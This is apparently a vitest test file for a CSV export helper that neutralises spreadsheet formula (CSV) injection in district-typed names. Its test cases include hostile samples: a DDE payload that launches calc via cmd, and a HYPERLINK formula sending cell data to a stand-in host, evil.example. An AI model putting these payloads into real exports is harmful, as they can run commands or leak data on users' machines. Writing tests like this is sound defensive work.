import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../testing/parse-csv.js';
import { csvCell, toCsv } from './csv.js';

/** What a spreadsheet reads in one cell written by csvCell. */
const read = (value: string | number | null) => {
  const { rows } = parseCsv(`${csvCell(value)}\r\n`);
  expect(rows.length, JSON.stringify(value)).toBe(1);
  expect(rows[0]!.length, JSON.stringify(value)).toBe(1);
  return rows[0]![0]!;
};
/** A spreadsheet runs a cell as a formula when it starts with one of these (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('csvCell (security-critical: exports carry names typed by districts)', () => {
  it.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '=1,2',
    '-',
  ])('neutralises the formula-looking text %j: the cell reads as text with a leading apostrophe', (value) => {
    const cell = read(value);
    expect(cell).toBe(`'${value}`);
    expect(cell).not.toMatch(FORMULA_START);
    // Always quoted, so the apostrophe and the text stay one field whatever they hold.
    expect(csvCell(value).startsWith('"')).toBe(true);
  });

  it.each([
    'Ana María',
    "O'Brien",
    'Smith, Jr.',
    'He said "hi"',
    '"quoted"',
    'two\nlines',
    'two\r\nlines',
    'a,"b",\nc',
    'x-ray',
    'Name=Value',
    '',
  ])('keeps ordinary text %j as it is: commas, quotes and line breaks stay inside one cell', (value) => {
    expect(read(value)).toBe(value);
  });

  it('writes text without special characters bare and quotes only what needs it', () => {
    expect(csvCell('Ana')).toBe('Ana');
    expect(csvCell('Smith, Jr.')).toBe('"Smith, Jr."');
    expect(csvCell('He said "hi"')).toBe('"He said ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('writes numbers as numbers (unquoted, negatives too), null and non-finite numbers as empty cells', () => {
    expect(csvCell(42)).toBe('42');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
  });
});

describe('toCsv', () => {
  it('a header line and one record per row, CRLF line ends; every cell through csvCell', () => {
    const headers = ['Name', 'Time (min)', 'Growth (%)'];
    const rows = [
      ['=cmd|x', 12, null],
      ['Smith, Jr.', 0, 4],
    ];
    const text = toCsv(headers, rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n').length).toBe(4);
    const parsed = parseCsv(text);
    expect(parsed.rows).toEqual([headers, ["'=cmd|x", '12', ''], ['Smith, Jr.', '0', '4']]);
    expect(parsed.quoted[1]).toEqual([true, false, false]);
    expect(toCsv(['=header'], [])).toBe(`"'=header"\r\n`);
  });
});
